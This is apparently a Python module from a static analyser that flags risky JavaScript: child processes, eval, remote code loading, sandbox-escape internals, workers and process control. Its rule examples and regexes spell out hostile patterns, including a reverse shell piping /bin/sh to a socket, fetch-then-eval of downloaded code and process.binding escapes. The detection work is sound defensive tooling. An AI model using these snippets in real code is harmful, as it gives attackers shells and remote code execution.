"""Running programs and code."""

from __future__ import annotations

import re
from collections.abc import Iterator

from tree_sitter import Node

from engine.analysis.javascript.declare import ABUSE, CRITICAL, HIGH, LOW, MEDIUM, found, rule
from engine.analysis.javascript.library import module_path
from engine.analysis.javascript.model import JavaScriptCall, Program
from engine.analysis.javascript.values import JavaScriptValue
from engine.analysis.ordinary_commands import only_shows
from engine.models import Violation

CHILD_PROCESS = rule(
    "js-child-process",
    "Starts other programs",
    "process",
    MEDIUM,
    attack="Leaves JavaScript and everything that monitors it for the shell.",
    why="MEDIUM: the command is analysed where it is known; HIGH where it is decoded; LOW for a look.",
    fix="Do the work in JavaScript.",
    match=(
        "require('child_process').exec(cmd)",
        "import { spawn } from 'node:child_process'; spawn('ls')",
        "const cp = require('child_' + 'process'); cp['ex' + 'ec']('id')",
        "require('execa')('ls')",
        "Bun.spawn(cmd)",
    ),
    not_match=("/a/.exec(text)", "db.exec('SELECT 1')", "const exec = f; exec(1)"),
    cwe=78,
)
EVAL = rule(
    "js-eval",
    "Runs a string as code",
    "exec_eval",
    HIGH,
    attack="Lets whoever controls the string decide what runs.",
    why="HIGH: honest code is written as code; LOW for a known text given to a timer, which is analysed.",
    fix="Parse data as JSON; call functions by name from a list.",
    match=(
        "eval(x)",
        "new Function('a', body)",
        "(0, eval)(x)",
        "globalThis['ev' + 'al'](x)",
        "setTimeout('alert(' + x + ')', 1)",
        "require('vm').runInNewContext(x)",
        "require('vm').runInNewContext(code, { console })",
    ),
    not_match=("evaluate(x)", "setTimeout(() => f(), 1)", "JSON.parse(x)", "obj.eval = 1"),
    cwe=95,
    owasp=ABUSE,
)
REMOTE_EVAL = rule(
    "js-remote-code",
    "Runs downloaded code",
    "exec_eval",
    CRITICAL,
    attack="Lets whoever controls the server, or the network path to it, decide what runs.",
    why="CRITICAL: the code that runs is not the code that was reviewed.",
    fix="Submit the code itself for review.",
    match=(
        "fetch(u).then(r => r.text()).then(t => eval(t))",
        "require('http').get(u, r => r.on('data', d => new Function(d)()))",
        "import('https://x.test/a.mjs')",
        "fetch(u).then(r => r.text()).then(eval)",
    ),
    not_match=("fetch(u).then(r => r.json())", "import('./a.mjs')"),
    cwe=494,
    owasp=ABUSE,
)
DYNAMIC_MODULE = rule(
    "js-dynamic-module",
    "Loads a module whose name is known only at run time",
    "exec_eval",
    MEDIUM,
    attack="Loads child_process, or a file of the attacker, under a name that no search finds.",
    why="MEDIUM: plug-in loaders do it too.",
    fix="Write the name of the module.",
    match=("require(name)", "import(path)", "require(base + '/x')"),
    not_match=("require('fs')", "require(__dirname + '/utils')", "const d = 'a'; require(`lodash/${d}`)"),
    cwe=829,
)
INTERNALS = rule(
    "js-internals",
    "Accesses the internals of the runtime",
    "escape",
    HIGH,
    attack="Reaches modules and native code without `require` and its checks.",
    why="HIGH: programs do not need these; they are the known ways out of a JavaScript sandbox.",
    fix="Use `require` or `import`.",
    match=(
        "process.binding('spawn_sync')",
        "process.mainModule.require('fs')",
        "module.constructor._load('fs')",
        "process.dlopen(m, 'a.node')",
        "require('inspector').open()",
    ),
    not_match=("require('module')", "process.version", "require.main === module"),
    cwe=693,
)
WORKER = rule(
    "js-worker",
    "Runs code in a worker or as WebAssembly",
    "exec_eval",
    MEDIUM,
    attack="Runs code that this analysis does not read, or binary code that no reviewer reads.",
    why="MEDIUM: legitimate uses are common; the content is unknown; HIGH for a text.",
    fix="Submit the source.",
    match=(
        "new WebAssembly.Module(bytes)",
        "new Worker('a', { eval: true })",
        "WebAssembly.instantiate(b)",
        "new (require('worker_threads').Worker)(f)",
    ),
    not_match=("new Job('a')", "const wasm = 1"),
    cwe=829,
)
REVERSE = rule(
    "js-reverse-shell",
    "Connects a shell to another machine",
    "reverse_shell",
    CRITICAL,
    attack="Gives an attacker a command line on this machine.",
    why="CRITICAL: there is no legitimate reason to connect a shell to a socket.",
    fix="Remove it.",
    match=(
        "s = require('child_process').spawn('/bin/sh'); c = require('net').connect(1, 'h'); c.pipe(s.stdin)",
        "require('net').createServer(c => c.pipe(require('child_process').spawn('bash').stdin)).listen(1)",
    ),
    not_match=(
        "require('child_process').spawn('ls').stdout.pipe(process.stdout)",
        "require('net').connect(1, 'h').pipe(process.stdout)",
    ),
    cwe=506,
)
PROCESS = rule(
    "js-process-control",
    "Kills processes or changes the user of the process",
    "process_kill",
    MEDIUM,
    attack="Stops services or monitoring, or gains rights.",
    why="MEDIUM: the sandbox has only its own processes; HIGH for changing the user.",
    fix="End the program by returning.",
    match=("process.kill(pid)", "process.setuid(0)", "process.abort()"),
    not_match=("process.exit(0)", "process.cwd()", "game.kill(player)"),
    cwe=400,
)

LAUNCHERS = (
    "child_process.", "execa", "shelljs.", "cross-spawn", "node-pty.", "zx.", "Bun.spawn", "Deno.run",
    "Deno.Command", "cluster.fork", "node-cmd.", "shell-exec", "nexpect.", "sudo-prompt.",
)  # fmt: skip
_LAUNCHING_MODULES = {
    "child_process",
    "execa",
    "shelljs",
    "cross-spawn",
    "node-pty",
    "node-cmd",
    "shell-exec",
    "sudo-prompt",
}
EVALUATORS = re.compile(
    r"(?:^|\.)(?:eval|Function|AsyncFunction|GeneratorFunction|execScript|runInContext|runInNewContext"
    r"|runInThisContext|compileFunction"
    r"|vm\.Script|vm\.SourceTextModule|Function\.prototype\.constructor|vm2?\.VM\(\)\.run|NodeVM\(\)\.run|isolated-vm.*\.(?:eval|compileScript)|VMScript|_compile"
    r"|node-serialize\.unserialize|funcster\.deepDeserialize|cryo\.parse)$"
)
_TIMERS = {"setTimeout", "setInterval", "setImmediate", "timers.setTimeout", "timers.setInterval"}
_LOADERS = {"require", "import", "module.require", "require.resolve", "importScripts"}
_INTERNAL = re.compile(
    r"^process\.(?:binding|_linkedBinding|dlopen|mainModule|getBuiltinModule|_debugProcess|reallyExit"
    r"|_rawDebug)\b|^module\.constructor\b"
    r"|^module\.(?:Module\.)?_(?:load|extensions|resolveFilename|compile)|^binding\.|^inspector\b"
    r"|^require\.main\.(?:constructor|require)"
    r"|^v8\.(?:setFlags|deserialize)|^repl\.|^(?:ffi|ffi-napi|koffi|ref-napi)\b|^process\.stdin\.constructor|^require\.cache"
)
_SOCKET = re.compile(r"(?:net|tls|dgram)\.|WebSocket$|ws$")
_MAIN_REQUIRE = re.compile(r"\.mainModule\.require$")
_ELSEWHERE = re.compile(r"(?:https?:)?//|data:")
_PROCESS = re.compile(
    r"^process\.(?:kill|abort|setuid|setgid|seteuid|setegid|setgroups|initgroups|umask|chroot)$"
)
_SHELL = re.compile(r"(?:^|[\s/\\])(?:ba|z|da|k|a|c)?sh(?:\s|$)|cmd(?:\.exe)?$|powershell|pwsh")


def check(program: Program) -> Iterator[Violation]:
    """Yield what runs code or programs."""
    sockets = any(_is_socket(call) for call in program.calls)
    loaded = _modules(program)
    used = False
    for call in program.calls:
        if launches(call):
            used = True
            yield from _launched(program, call, sockets=sockets)
        elif EVALUATORS.search(call.path):
            yield from _evaluated(program, call, _code_of(call))

        elif (
            call.path in _TIMERS and call.args and call.arg(0).kind in {"text", "unknown"} and _is_text(call)
        ):
            yield from _evaluated(program, call, call.arg(0))
        elif call.path in _LOADERS:
            yield from _loads(program, call)
        elif call.path.endswith(".then"):
            yield from _passed(program, call)
        yield from _inside(program, call)
    for node, name in _imports(program):
        if _ELSEWHERE.match(name):
            yield REMOTE_EVAL.violation(program.tree.span(node), program.text(node))
    if loaded is not None and not used:
        yield CHILD_PROCESS.violation(program.tree.span(loaded), program.text(loaded))


def _modules(program: Program) -> Node | None:
    """Return where a module that starts programs is loaded."""
    for node, name in _imports(program):
        if module_path(name) in _LAUNCHING_MODULES:
            return node
    for call in program.calls:
        if (
            call.path.endswith(("require", "import", "_load"))
            and module_path(call.arg(0).text) in _LAUNCHING_MODULES
        ):
            return call.node
    return None


def _imports(program: Program) -> Iterator[tuple[Node, str]]:
    """Yield the statements that import or export from a module, with its name."""
    for node, _ in program.names.of("import_statement", "export_statement"):
        source = node.child_by_field_name("source")
        if source is not None:
            yield node, program.tree.of(source)[1:-1]


_RUNS_TEXT = frozenset({"eval", "Function"})
_CODED = re.compile(r"(?i)powershell.*\s-e(?:nc|ncodedcommand)?\s|invoke-webrequest|downloadstring")


def command_line(call: JavaScriptCall) -> str:
    """Return the command and its list of arguments as one line, as far as they are known."""
    return " ".join([call.arg(0).text, *(item.text for item in call.arg(1).items)])


def launches(call: JavaScriptCall) -> bool:
    """Whether a call starts a program."""
    if not call.path.startswith(LAUNCHERS) or "()" in call.path:
        return False
    return call.path.removeprefix("child_process.").count(".") <= ("child_process." not in call.path)


def _launched(program: Program, call: JavaScriptCall, *, sockets: bool) -> Iterator[Violation]:
    command = call.arg(0)
    hidden = bool(command.layers) or bool({"network", "decoded"} & command.taints)
    line = command_line(call)
    if sockets and command.known and _SHELL.search(command.text) and "spawn" in call.path:
        yield found(REVERSE, program, call)
    else:
        grave = HIGH if hidden or _CODED.search(line) else LOW if only_shows(line) else None
        yield found(CHILD_PROCESS, program, call, severity=grave)


def _is_socket(call: JavaScriptCall) -> bool:
    return bool(_SOCKET.match(call.path)) and "isIP" not in call.path


def _is_text(call: JavaScriptCall) -> bool:
    value = call.arg(0)
    return value.kind == "text" or bool(value.taints & {"decoded", "network"})


def _code_of(call: JavaScriptCall) -> JavaScriptValue | None:
    """Return the code: the last argument of a function's constructor, and the first one of all others."""
    if not call.args:
        return None
    return call.args[-1] if call.path.endswith(("Function", "constructor")) else call.args[0]


def _evaluated(program: Program, call: JavaScriptCall, code: JavaScriptValue | None) -> Iterator[Violation]:
    if code is None or code.kind in {"function", "object", "number"}:
        return
    if "network" in code.taints:
        yield found(REMOTE_EVAL, program, call)
    elif code.layers or "decoded" in code.taints:
        yield found(EVAL, program, call, "Runs decoded code")
    else:
        yield found(EVAL, program, call, severity=LOW if code.known and call.path in _TIMERS else None)


def _loads(program: Program, call: JavaScriptCall) -> Iterator[Violation]:
    name = call.arg(0)
    if not call.args or name.kind == "number":
        return
    if name.known:
        if _ELSEWHERE.match(name.text):
            yield found(REMOTE_EVAL, program, call, "Loads code from another host")
        elif re.match(r"/\w", name.text):
            yield found(DYNAMIC_MODULE, program, call, "Loads code from outside of the program")
    elif call.path != "require.resolve" and not _is_beside(program, call):
        yield found(DYNAMIC_MODULE, program, call)


def _is_beside(program: Program, call: JavaScriptCall) -> bool:
    """`require(__dirname + '/x')` and `require(path.join(__dirname, 'x'))` name a file beside it."""
    text = program.tree.of(call.nodes[0]) if call.nodes else ""
    return bool(re.fullmatch(r"(?:path\.\w+\()?\s*__dirname\s*[,+]\s*(['\"`])[^'\"`$]*\1\s*\)?", text))


def _passed(program: Program, call: JavaScriptCall) -> Iterator[Violation]:
    """`fetch(…).then(eval)`."""
    if call.arg(0).path in _RUNS_TEXT and "network" in call.target.taints:
        yield found(REMOTE_EVAL, program, call)


def _inside(program: Program, call: JavaScriptCall) -> Iterator[Violation]:
    if (_PROCESS.match(call.path) and call.args) or call.path == "process.abort":
        user = re.search(r"[ug]id|groups", call.path)
        yield found(PROCESS, program, call, severity=HIGH if user else None)
    elif _INTERNAL.match(call.path) or _MAIN_REQUIRE.search(call.path):
        yield found(INTERNALS, program, call)
    elif call.path.startswith("WebAssembly.") and "validate" not in call.path:
        yield found(WORKER, program, call)
    elif call.path in {"Worker", "SharedWorker", "worker_threads.Worker", "node:worker_threads.Worker"}:
        inline = len(call.nodes) > 1 and "eval" in program.tree.of(call.nodes[1])
        own = call.arg(0).path == "__filename" or call.arg(0).text.startswith("./")
        yield found(WORKER, program, call, severity=HIGH if inline else LOW if own else None)
